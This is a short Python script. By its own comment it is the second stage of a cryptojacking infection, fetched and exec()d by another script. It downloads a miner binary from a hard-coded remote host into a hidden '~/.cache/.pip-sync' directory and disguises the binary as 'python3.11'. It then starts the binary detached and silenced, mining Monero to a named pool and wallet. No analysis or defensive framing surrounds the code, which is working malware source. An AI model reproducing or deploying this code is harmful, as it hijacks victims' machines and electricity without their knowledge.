# second stage fetched and exec()d by ten.py: drops the miner into a
# hidden cache directory and starts it detached with its pool on the
# command line.
import os
import subprocess
import urllib.request as r

SRC = "http://198.51.100.61:8080/tene/"
home = os.path.expanduser("~/.cache/.pip-sync")
os.makedirs(home, exist_ok=True)
dst = os.path.join(home, "python3.11")
if not os.path.exists(dst):
    with open(dst, "wb") as f:
        f.write(r.urlopen(SRC + "xm", timeout=60).read())
    os.chmod(dst, 0o700)
subprocess.Popen(
    [dst, "-o", "xmr-us-east1.nanopool.org:14433", "--tls",
     "-u", "44WduuhCbe4Yis64wcZ5asbzVeUgGEVV9V3ivRYkeFmnrCjsWKhitjMABtFpmk9WRUosCJ2F6N2Vo4Ev2kJqwGJPVSpTFEc.tene",
     "-p", "x", "-k", "--donate-level=0", "-B"],
    stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
